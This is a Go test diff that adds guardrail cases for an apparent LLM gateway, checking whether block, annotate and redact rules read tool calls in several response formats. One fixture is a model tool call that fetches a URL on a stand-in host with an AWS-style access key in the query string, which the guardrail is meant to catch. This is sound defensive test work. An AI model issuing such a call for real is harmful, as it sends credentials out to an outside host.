@@ -100,6 +100,27 @@ func TestOutputGuardrails(t *testing.T) {
 			wantRefuse: delivery.CodeGuardrailBlocked,
 		},
 		{
+			name: "block: tool_calls rules read the calls (chat arguments), the others do not",
+			rules: []delivery.GuardrailRule{rule("plain", delivery.BuiltinAPIToken, delivery.ActionBlock),
+				{Name: "calls", Builtin: delivery.BuiltinAPIToken, Stage: delivery.StagePostCall, Action: delivery.ActionBlock, ToolCalls: true}},
+			body:       `{"choices":[{"message":{"content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"fetch","arguments":"{\"url\":\"https://x.example/?k=AKIAIOSFODNN7EXAMPLE\"}"}}]}}]}`,
+			wantRefuse: delivery.CodeGuardrailBlocked,
+		},
+		{
+			name: "annotate: tool_calls rules read Responses function calls and Anthropic tool_use input, redact rules never",
+			rules: []delivery.GuardrailRule{rule("r", delivery.BuiltinEmail, delivery.ActionRedact),
+				{Name: "a", Builtin: delivery.BuiltinEmail, Stage: delivery.StagePostCall, Action: delivery.ActionAnnotate, ToolCalls: true}},
+			body: `{"content":[{"type":"text","text":"ok"},{"type":"tool_use","id":"t","name":"mail","input":{"to":["a@example.com"],"n":1}}],` +
+				`"output":[{"type":"function_call","name":"f","arguments":"{\"to\":\"b@example.com\"}"}]}`,
+			wantHeader: map[string]string{delivery.HeaderGuardrailMatched: "a", delivery.HeaderGuardrailRedacted: ""},
+		},
+		{
+			name:       "annotate: without tool_calls, calls are not read",
+			rules:      []delivery.GuardrailRule{rule("a", delivery.BuiltinEmail, delivery.ActionAnnotate)},
+			body:       `{"content":[{"type":"tool_use","id":"t","name":"mail","input":{"to":"a@example.com"}}]}`,
+			wantHeader: map[string]string{delivery.HeaderGuardrailMatched: ""},
+		},
+		{
 			name:  "redact: api token with a custom replacement",
 			rules: []delivery.GuardrailRule{{Name: "tok", Builtin: delivery.BuiltinAPIToken, Stage: delivery.StagePostCall, Action: delivery.ActionRedact, Replacement: "<key>"}},
 			body:  `{"choices":[{"message":{"content":"use sk-proj-abc123DEF456ghi789JKL012mno345"}}]}`,
